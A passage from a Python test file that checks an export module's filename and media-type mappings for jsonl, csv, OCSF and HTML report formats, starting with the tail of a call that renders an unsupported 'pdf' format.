        formats.render("pdf", context("soc2-population"), [])  # type: ignore[arg-type]


def test_media_types_and_filenames() -> None:
    assert formats.FILENAMES == {
        "jsonl": "entries.jsonl",
        "csv": "rows.csv",
        "ocsf": "ocsf.jsonl",
        "html": "report.html",
    }
    assert formats.MEDIA_TYPES["csv"].startswith("text/csv; charset=utf-8")
    assert formats.MEDIA_TYPES["html"] == "text/html; charset=utf-8"
    assert set(formats.MEDIA_TYPES) == set(formats.FILENAMES) == set(formats.RENDERED_FORMATS)
